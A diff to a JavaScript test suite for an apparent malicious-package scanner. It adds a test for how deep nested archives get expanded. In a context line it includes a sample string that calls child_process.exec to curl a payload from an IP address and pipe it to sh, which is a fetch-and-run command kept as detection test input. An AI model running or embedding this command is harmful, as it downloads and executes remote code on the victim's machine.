@@ -92,6 +92,20 @@ describe('limits: one test per cap', function () {
     assert.ok(ws.diagnostics.some((d) => d.code === 'archive-bomb' && d.incomplete));
   });
 
+  it('maxArchiveDepth: an archive nested below it is not expanded, the scan is incomplete', async () => {
+    TESTED.add('maxArchiveDepth');
+    const inner = await zipOf([{ name: 'package.json', data: PACKAGE_LURE }]);
+    const t = tempDir('lurescan-limits-');
+    try {
+      writeFileSync(path.join(t.dir, 'outer.zip'), await zipOf([{ name: 'inner.zip', data: inner }]));
+      incompleteWith(await scan({ kind: 'path', path: t.dir }, { limits: { maxArchiveDepth: 1 } }), 'archive-depth-limit');
+      const deeper = await scan({ kind: 'path', path: t.dir }, { limits: { maxArchiveDepth: 2 } });
+      assert.ok(deeper.findings.some((f) => f.location.file === 'outer.zip!/inner.zip!/package.json'));
+    } finally {
+      t.cleanup();
+    }
+  });
+
   it('maxDecodeDepth: nested encodings stop at the cap (decoders default to it)', () => {
     TESTED.add('maxDecodeDepth');
     let s = 'require("child_process").exec("curl http://1.2.3.4:1224/pdown | sh")';
